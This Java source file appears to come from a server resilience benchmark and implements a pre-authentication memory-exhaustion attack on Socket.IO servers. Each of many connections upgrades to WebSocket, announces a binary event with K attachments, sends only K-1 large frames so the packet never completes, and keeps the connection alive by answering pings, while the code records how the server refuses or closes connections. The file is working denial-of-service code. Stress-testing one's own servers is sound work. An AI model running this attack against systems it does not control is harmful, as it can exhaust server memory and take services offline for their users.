package io.switchboard.bench.attack;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;

/**
 * {@code memory}: the pre-authentication memory attack. Each connection upgrades to WebSocket on the Socket.IO path,
 * reads the Engine.IO open packet, sends a BINARY_EVENT that announces K attachments
 * ({@code 45K-["x",{"_placeholder":true,"num":0},…]}) and then K-1 binary frames of B bytes, so that the packet is
 * never complete, and never sends CONNECT; then it holds, answering the server's pings. Each connection ends in one of:
 * refused ({@code http_<status>}), closed by the server (close code, eof or reset, with the stage and the bytes sent
 * since the upgrade), timed out (no answer or no open packet), or still open at the end.
 *
 * <pre>{@code
 * ObjectNode r = new MemoryAttack(AttackOptions.parse("memory", "--count", "1000", "--attachments", "10",
 *     "--size", "1000000", "--hold-s", "60", "--server-pid", "1234")).run();
 * }</pre>
 *
 * <p>The attack sockets' send buffers are 128 KiB (not auto-tuned), so "bytes sent" is close to what the server got.
 */
final class MemoryAttack extends Attack {
  private static final int SEND_BUFFER = 128 * 1024;
  private static final int MAX_SAMPLES = 5;

  private final byte[] upgrade;
  private final ByteBuffer event;
  private final ByteBuffer attachment;
  private final int binaryFrames;
  private final long answerTimeout;
  private final Map<String, Integer> refused = new TreeMap<>();
  private final Map<String, Integer> retryAfter = new TreeMap<>();
  private final Map<String, Integer> closes = new TreeMap<>();
  private final Map<String, Integer> closeStages = new TreeMap<>();
  private final Map<String, Integer> timeouts = new TreeMap<>();
  private final List<Long> closeTimes = new ArrayList<>();
  private final List<Long> closeBytes = new ArrayList<>();
  private final List<Long> sendTimes = new ArrayList<>();
  private final Set<String> serverTexts = new LinkedHashSet<>();
  private int upgraded;
  private int openPackets;
  private int fullySent;
  private int stillOpen;
  private int stillOpenSending;
  private long bytesSent;
  private long pingsAnswered;

  MemoryAttack(AttackOptions options) {
    super(options);
    this.upgrade = Requests.upgrade(options.webSocketTarget(), options.hostHeader());
    this.event = WsFrames.text(WsFrames.placeholderEvent(options.attachments()));
    this.attachment = WsFrames.binary(options.size());
    this.binaryFrames = options.attachments() - 1;
    this.answerTimeout = options.answerTimeout().toNanos();
  }

  /** The bytes each connection sends after the upgrade: the event and the K-1 attachments. */
  long plannedBytes() {
    return event.remaining() + (long) binaryFrames * attachment.remaining();
  }

  @Override
  void configure(SocketChannel ch) throws IOException {
    ch.setOption(StandardSocketOptions.SO_SNDBUF, SEND_BUFFER);
  }

  @Override
  Conn newConn(int id) {
    return new MemoryConn(id);
  }

  private enum Stage { UPGRADE, OPEN_PACKET, SENDING, HOLDING }

  private final class MemoryConn extends Conn {
    private Stage stage = Stage.UPGRADE;
    private final HttpHead head = new HttpHead();
    private WsFrames.Reader frames;
    private long requestAt;
    private long sentAtUpgrade;
    private boolean eventSent;
    private int framesLeft;
    private int pongs;
    private String closeFrame;

    MemoryConn(int id) {
      super(id);
    }

    @Override
    void onConnected(long now) {
      requestAt = now;
      send(ByteBuffer.wrap(upgrade), now);
    }

    @Override
    void onData(ByteBuffer in, long now) {
      if (stage == Stage.UPGRADE) {
        if (!head.feed(in)) {
          return;
        }
        if (head.status() != 101) {
          refused.merge("http_" + head.status(), 1, Integer::sum);
          String retry = head.header("retry-after");
          if (retry != null) {
            retryAfter.merge(retry, 1, Integer::sum);
          }
          record(this);
          close(now);
          return;
        }
        upgraded++;
        stage = Stage.OPEN_PACKET;
        sentAtUpgrade = bytesSent;
        frames = new WsFrames.Reader();
      }
      frames.feed(in, (opcode, payload, length) -> {
        if (opcode == WsFrames.CLOSE) {
          if (closeFrame == null) {
            closeFrame = "close_" + WsFrames.closeCode(payload);
          }
          return;
        }
        if (opcode != WsFrames.TEXT) {
          return;
        }
        String text = new String(payload, StandardCharsets.UTF_8);
        if (stage == Stage.OPEN_PACKET && text.startsWith("0{")) {
          openPackets++;
          stage = Stage.SENDING;
          framesLeft = binaryFrames;
          handshakeDone();
        } else if (text.equals("2")) {
          pongs++;
        } else if (serverTexts.size() < MAX_SAMPLES) {
          serverTexts.add(text.length() > 200 ? text.substring(0, 200) + "…" : text);
        }
      });
      if (closeFrame != null) {
        serverClosed(now, closeFrame);
      } else if (out.isEmpty()) {
        flush(now); // starts the sending, or answers a ping; otherwise the pong waits for the frame being written
      }
    }

    @Override
    ByteBuffer nextToSend(long now) {
      if (pongs > 0) {
        pongs--;
        pingsAnswered++;
        return WsFrames.ENGINE_PONG.duplicate();
      }
      if (stage != Stage.SENDING) {
        return null;
      }
      if (!eventSent) {
        eventSent = true;
        return event.duplicate();
      }
      if (framesLeft > 0) {
        framesLeft--;
        return attachment.duplicate();
      }
      stage = Stage.HOLDING;
      fullySent++;
      sendTimes.add(now - requestAt);
      settle();
      return null;
    }

    @Override
    void onTick(long now) {
      if ((stage == Stage.UPGRADE || stage == Stage.OPEN_PACKET) && now - requestAt > answerTimeout) {
        timeouts.merge(stage == Stage.UPGRADE ? "upgrade" : "open_packet", 1, Integer::sum);
        record(this);
        close(now);
      }
    }

    @Override
    void onServerClosed(long now, String how) {
      closes.merge(how, 1, Integer::sum);
      closeStages.merge(stage.name().toLowerCase(Locale.ROOT), 1, Integer::sum);
      closeTimes.add(now - connectedNanos);
      closeBytes.add(stage == Stage.UPGRADE ? 0 : bytesSent - sentAtUpgrade);
      record(this);
    }

    @Override
    void atEnd(long now) {
      stillOpen++;
      if (stage == Stage.SENDING) {
        stillOpenSending++;
      }
      record(this);
    }
  }

  private void record(Conn c) {
    bytesSent += c.bytesSent;
  }

  @Override
  void report(ObjectNode out) {
    out.put("attachments", options.attachments());
    out.put("size", options.size());
    out.put("planned_bytes_per_conn", plannedBytes());
    out.put("upgraded", upgraded);
    putMap(out, "refused", refused);
    putMap(out, "retry_after", retryAfter);
    out.put("open_packets", openPackets);
    out.put("fully_sent", fullySent);
    long[] s = sendTimes.stream().mapToLong(Long::longValue).toArray();
    out.put("send_p50_ms", Stats.msOrNull(s, 50));
    out.put("send_max_ms", Stats.msOrNull(s, 100));
    long[] t = closeTimes.stream().mapToLong(Long::longValue).toArray();
    long[] b = closeBytes.stream().mapToLong(Long::longValue).toArray();
    out.put("closed_by_server", t.length);
    putMap(out, "closed", closes);
    putMap(out, "closed_stage", closeStages);
    out.put("close_p50_ms", Stats.msOrNull(t, 50));
    out.put("close_p90_ms", Stats.msOrNull(t, 90));
    out.put("close_max_ms", Stats.msOrNull(t, 100));
    out.put("closed_at_bytes_p50", Stats.orNull(b, 50));
    out.put("closed_at_bytes_max", Stats.orNull(b, 100));
    putMap(out, "timeouts", timeouts);
    out.put("still_open", stillOpen);
    out.put("still_open_sending", stillOpenSending);
    out.put("bytes_sent", bytesSent);
    out.put("pings_answered", pingsAnswered);
    ArrayNode texts = out.putArray("server_texts");
    serverTexts.forEach(texts::add);
  }

  @Override
  String summary() {
    long[] t = closeTimes.stream().mapToLong(Long::longValue).toArray();
    long[] b = closeBytes.stream().mapToLong(Long::longValue).toArray();
    return String.format(Locale.ROOT, "%d upgraded, refused %s, %d open packets, %d sent all %d bytes;"
            + " server closed %d %s at stages %s, after %s (since the connect), at %s bytes sent (p50/max);"
            + " timeouts %s; %d still open at the end (%d still sending); %d bytes sent in all, %d pings answered",
        upgraded, refused, openPackets, fullySent, plannedBytes(), t.length, closes, closeStages,
        Stats.describeMs(t), b.length == 0 ? "-" : Stats.percentile(b, 50) + "/" + Stats.percentile(b, 100),
        timeouts, stillOpen, stillOpenSending, bytesSent, pingsAnswered);
  }
}
